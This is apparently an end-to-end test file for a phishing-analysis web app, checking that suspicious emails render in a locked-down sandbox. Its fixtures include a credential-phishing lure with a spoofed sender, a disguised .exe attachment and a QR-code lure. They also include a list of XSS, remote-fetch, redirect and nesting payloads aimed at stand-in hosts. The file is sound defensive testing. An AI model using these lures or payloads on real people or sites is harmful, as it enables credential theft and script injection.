import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { newAccount, scanByApi, takeSession } from './support/account.js';
import { useBrowser } from './support/browser.js';
import { look } from './support/look.js';

const open = useBrowser();

const lines = (...all: string[]) => all.join('\r\n');

/** Evidence in a header, in an attachment's name, in the text of a page and in its markup. */
const lure = lines(
  'From: "security@northwind.com" <it-desk@mail-verify.top>',
  'Reply-To: helpdesk@freemail.example',
  'To: a@northwind.com, b@northwind.com, c@northwind.com, d@northwind.com, e@northwind.com',
  'Date: Tue, 24 Nov 2026 09:12:00 +0100',
  'Subject: Your mailbox is almost full',
  'X-Mailer: PHPMailer 5.2.9',
  'Content-Type: multipart/mixed; boundary=m',
  '',
  '--m',
  'Content-Type: multipart/alternative; boundary=a',
  '',
  '--a',
  'Content-Type: text/plain',
  '',
  'Only in the plain part.',
  '--a',
  'Content-Type: text/html',
  '',
  '<style>.button { color: rgb(1, 2, 3) }</style>',
  '<p>Please <b>confirm your password</b> within 24 hours.</p>',
  '<p><a class="button" style="padding: 7px" href="http://203.0.113.7/login">https://www.northwind.com</a></p>',
  '<form action="http://203.0.113.7/collect"><input type="password" placeholder="PIN"></form>',
  '--a--',
  '--m',
  'Content-Disposition: attachment; filename="invoice\u202e.pdf.exe"',
  'Content-Type: application/octet-stream',
  '',
  'x',
  '--m--',
  '',
);

/** `http://203.0.113.7/login` as a QR code of dots of 3 pixels. */
const CODE =
  'iVBORw0KGgoAAAANSUhEUgAAAGMAAABjCAAAAACqUOFJAAAB4klEQVR4AbXBUYocSxIEQPOg7n9lXxISWjVqvZU+wiy1buwb+8a+sW/sG/vGvrFv7Bv7xr7HL+KLOuIqoY5Q4ov6GPvGvsdbvcRVR4gjlLrqJV7GvrHv8Zu46iOuOuIIdcVVP419Y9/jL4QSVxzxt8a+se/xL0oc9Q/GvrHv8Zv6qcRVQiihrvqjsW/se7zFF6HEEUq8xH8Z+8a+1F8JdYQSR/2VsW/sS33EUVdcJY4SL3XFUV+MfWNf6qdQRyihjlBHvNQRH/Uy9o19qY84ShwlPkocJa4S6ggljvoY+8a+xx/UUUIdcdRRV6iXEi9j39j3eKsrrjriqI9QR6ijvhv7xr7HW1wl1BFKHHHUVT+Fehn7xr7UR6gjXuolXuqIo8RRH2Pf2Pf4TVz1Ragr1EcJJV7GvrHv8U0dcZS46oiP+KJexr6x7/GLOuqqlzrqiqOu+KOxb+x7/CK+qKOEEuoocYQ6Qh2hPsa+se/xVi9xxRHqCHXVVd+NfWNf6iOUuEqoI5T4/+qnsW/se/yLElddcZRQ4qiPsW/se/ydEuqoK466SijxMvaNfY/f1E9xhTpCHSWuUl+MfWPf4y3+qI5QShxx1BHqi7Fv7EutG/vGvrFv7Bv7xr6xb+wb+8a+se9/FK2G0nveyWEAAAAASUVORK5CYII=';

/** What only a QR code says. */
const coded = lines(
  'From: IT desk <it-desk@mail-verify.top>',
  'Date: Tue, 24 Nov 2026 09:12:00 +0100',
  'Subject: Your mailbox is almost full',
  'Content-Type: multipart/mixed; boundary=m',
  '',
  '--m',
  'Content-Type: text/plain',
  '',
  'Your mailbox will be closed. Scan the code with your phone and confirm your password within 24 hours to keep it.',
  '--m',
  'Content-Disposition: attachment; filename="code.png"',
  'Content-Type: image/png',
  'Content-Transfer-Encoding: base64',
  '',
  CODE,
  '--m--',
  '',
);

async function drop(page: Page, source: string) {
  await page.goto('/app/scans/create');
  await page.getByLabel('Body').waitFor();
  await page.evaluate((text) => {
    const dataTransfer = new DataTransfer();
    dataTransfer.items.add(new File([text], 'mail.eml', { type: 'message/rfc822' }));
    window.dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer }));
  }, source);
  await page.getByRole('button', { name: 'Analyze content' }).click();
  await expect(page).toShowHeading('Scan result');
}

async function openMail(source: string, viewport?: { width: number; height: number }) {
  const visit = await open(viewport && { viewport });
  await takeSession(visit.page, await newAccount());
  await drop(visit.page, source);
  return visit;
}

const framed = (page: Page) => page.frames().find((each) => each !== page.mainFrame());
const frameOf = (page: Page) => page.frameLocator('iframe');
const tab = (page: Page, name: string) => page.getByRole('tab', { name, exact: true });
const chosen = (page: Page) => page.getByRole('tab', { selected: true }).innerText();
const focused = (page: Page) => page.evaluate(() => document.activeElement?.textContent);
const reason = (page: Page, name: RegExp) => page.locator('main').getByRole('button', { name }).first();

describe('an email that is dropped on the form', () => {
  it('is shown as its recipient sees it, with who it is from, what is attached and where it leads', async () => {
    const { page, complaints } = await openMail(lure);
    const frame = frameOf(page);
    await frame.getByText('confirm your password').waitFor();
    const link = frame.locator('a');
    expect(await link.getAttribute('title')).toBe('Leads to http://203.0.113.7/login');
    expect(await link.evaluate((a) => [getComputedStyle(a).color, getComputedStyle(a).paddingTop])).toEqual([
      'rgb(1, 2, 3)',
      '7px',
    ]);
    expect(await frame.locator('mark').count()).toBeGreaterThan(0);
    // Some mail programs show the other half, which says something else.
    expect(await frame.getByText('Only in the plain part.').count()).toBe(1);

    await expect(page).toShow('"security@northwind.com" <it-desk@mail-verify.top>');
    await expect(page).toShow('helpdesk@freemail.example');
    await expect(page).toShow('a@northwind.com, b@northwind.com, c@northwind.com and 2 more');
    const attached = page.getByRole('list', { name: 'Attachments' }).getByRole('listitem');
    expect(await attached.innerText()).toContain('invoice[U+202E].pdf.exe');
    expect(await attached.innerText()).toContain('Program that is named like a document');

    const row = page.getByRole('row', { name: /^https:\/\/www\.northwind\.com/ });
    expect(await row.innerText()).toContain('Names another host');
    expect(await row.innerText()).toContain('http://203.0.113.7/login');
    await page.getByRole('row', { name: /What is entered into a form.*203\.0\.113\.7\/collect/ }).waitFor();
    // Later ones are of axe, which asks the frame in vain.
    expect(complaints).toEqual([]);
    expect(await look(page, 'reader')).toEqual([]);
  });

  it('has each reason lead to its evidence: in the text, the markup, a header, an attachment', async () => {
    const { page } = await openMail(lure);
    await frameOf(page).getByText('confirm your password').waitFor();
    expect(await chosen(page)).toBe('Rendered');

    await reason(page, /named like a document/).click();
    await expect.poll(() => focused(page)).toBe('.pdf.exe');
    expect(await chosen(page)).toBe('Rendered');
    await reason(page, /name is another address/).click();
    await expect.poll(() => focused(page)).toBe('security@northwind.com');

    await reason(page, /password, code, PIN/).click();
    await expect.poll(() => focused(page)).toContain('confirm your password');
    expect(await chosen(page)).toBe('Text');
    await reason(page, /Password field/).click();
    await expect.poll(() => focused(page)).toBe('[PIN]');

    await tab(page, 'Source').click();
    await reason(page, /Password field/).click();
    await expect.poll(() => focused(page)).toBe('<input type="password');
    expect(await chosen(page)).toBe('Source');
    await page
      .getByRole('region', { name: 'Source of part 1' })
      .getByText('Only in the plain part.')
      .waitFor();

    await tab(page, 'Headers').click();
    const mailer = page.getByRole('row', { name: /X-Mailer/ });
    expect(await mailer.innerText()).toContain('PHPMailer 5.2.9');
    const claimed = page.getByRole('row', { name: /^From/ }).getByRole('link');
    await claimed.click();
    await expect.poll(() => focused(page)).toContain('Sender whose name is another address');
  });

  it('has the reason that is in a QR code lead to its picture, and its link among the others', async () => {
    const { page } = await openMail(coded);
    const row = page.getByRole('row', { name: /QR code/ });
    expect(await row.innerText()).toContain('http://203.0.113.7/login');
    await reason(page, /QR code/).click();
    await expect.poll(() => focused(page)).toBe('code.png');
  });

  it('has tabs that the arrow keys choose', async () => {
    const { page } = await openMail(lure);
    await tab(page, 'Rendered').focus();
    for (const name of ['Text', 'Source', 'Headers', 'Rendered']) {
      await page.keyboard.press('ArrowRight');
      await page.keyboard.press('Enter');
      await expect.poll(() => chosen(page)).toBe(name);
      await page.getByRole('tabpanel', { name }).waitFor();
    }
    for (const name of ['Text', 'Source', 'Headers']) {
      await tab(page, name).click();
      expect(await look(page, `reader-${name}`)).toEqual([]);
    }
  });

  it('is printed as text', async () => {
    const { page } = await openMail(lure);
    await frameOf(page).getByText('confirm your password').waitFor();
    const text = page.getByRole('region', { name: 'Body' });
    expect(await text.isVisible()).toBe(false);
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('iframe').isVisible()).toBe(false);
    expect(await text.innerText()).toContain('https://www.northwind.com <http://203.0.113.7/login>');
    expect(await page.getByRole('tab').count()).toBe(0);
  });
});

const PICTURE = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
const away = 'http://away.test';

const hostile: Record<string, string> = {
  scripts:
    '<script>parent.hacked=1;hacked=1</script><script src="http://away.test/x.js"></script><img src=x onerror="parent.hacked=1">' +
    '<body onload="parent.hacked=1"><svg onload="parent.hacked=1"><script>parent.hacked=1</script></svg><iframe srcdoc="<script>parent.parent.hacked=1</script>"></iframe>',
  fetches:
    `<img src="${away}/a.png" srcset="${away}/b.png 2x"><link rel=stylesheet href="${away}/c.css"><link rel=preconnect href="${away}">` +
    `<video src="${away}/d" poster="${away}/e"></video><object data="${away}/f"></object><embed src="${away}/g"><iframe src="${away}/h"></iframe>` +
    `<style>@import "${away}/i.css"; @font-face { font-family: x; src: url(${away}/j) } p { font-family: x; background: url("${away}/k"); list-style: u\\72l(${away}/l) }</style>` +
    `<p style="background:url(${away}/m);border-image:image-set('${away}/n' 1x)">a</p><table background="${away}/o"><tr><td background="${away}/p">b</table>`,
  'ways out':
    `<meta http-equiv=refresh content="0;url=${away}/a"><base href="${away}/" target=_top>` +
    `<a id=go href="${away}/b" target=_top>go</a><a href="javascript:parent.hacked=1">run</a><a href="data:text/html,<script>1</script>">data</a>` +
    `<form action="${away}/c" target=_top><input name=q autofocus><button id=send>send</button></form><svg><a href="${away}/d"><text>e</text></a></svg>`,
  overlays:
    '<style>*{position:fixed;inset:0;z-index:99999;display:block} html,body{display:none}</style><div style="position:fixed;inset:0;background:red">over</div></style></iframe></body>',
  'deep nesting': '<div><table><tr><td><b><a href=x>'.repeat(3_000),
  'open elements': `${Array.from({ length: 5_000 }, (_, n) => `<b id=${n}>`).join('')}${'<p>x'.repeat(10_000)}`,
};

describe('a hostile message', () => {
  it.each(Object.entries(hostile))(
    'with %s runs nothing, fetches nothing and leads nowhere',
    async (_, body) => {
      const { page, complaints } = await open({ viewport: { width: 390, height: 800 } });
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      const ada = await newAccount();
      const { id } = await scanByApi(ada.token, `<p>Hello</p><img src="${PICTURE}">${body}`);
      await takeSession(page, ada);
      await page.goto(`/app/scans/${id}`);
      await expect(page).toShow('Why this score');
      await page.locator('iframe').waitFor();
      await framed(page)?.waitForLoadState('load');
      for (const name of ['Text', 'Source', 'Rendered']) await tab(page, name).click();
      await framed(page)?.waitForLoadState('load');
      // Later ones are of what the test itself runs in the frame.
      expect(complaints).toEqual([]);
      for (const clicked of ['#go', '[data-gp="button"]', 'a'])
        await frameOf(page)
          .locator(clicked)
          .first()
          .dispatchEvent('click', {}, { timeout: 200 })
          .catch(() => null);

      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
      expect(await framed(page)?.evaluate(() => 'hacked' in window)).toBe(false);
      expect(page.url()).toBe(`${inject('baseUrl')}/app/scans/${id}`);
      const outside = requests.filter((url) => !url.startsWith(inject('baseUrl')) && url !== PICTURE);
      expect(outside).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390);
      await page.getByRole('button', { name: 'Legitimate' }).click({ trial: true });
    },
  );

  it('may do nothing in its frame', async () => {
    const { page } = await openMail(lure);
    const frame = page.locator('iframe');
    expect(await frame.getAttribute('sandbox')).toBe('');
    expect(await frame.getAttribute('src')).toBeNull();
    const source = (await frame.getAttribute('srcdoc')) ?? '';
    expect(source).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
    expect(source).not.toMatch(/ (?:href|action|on\w+)=/);
  });
});
